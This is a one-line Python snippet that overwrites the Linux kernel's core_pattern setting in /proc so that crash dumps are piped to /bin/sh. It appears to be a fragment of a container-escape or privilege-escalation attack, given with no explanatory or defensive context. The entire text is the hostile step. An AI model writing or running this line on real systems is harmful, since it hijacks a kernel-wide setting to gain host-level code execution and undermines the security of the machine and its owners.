open('/proc/sys/kernel/core_pattern', 'w').write('|/bin/sh')
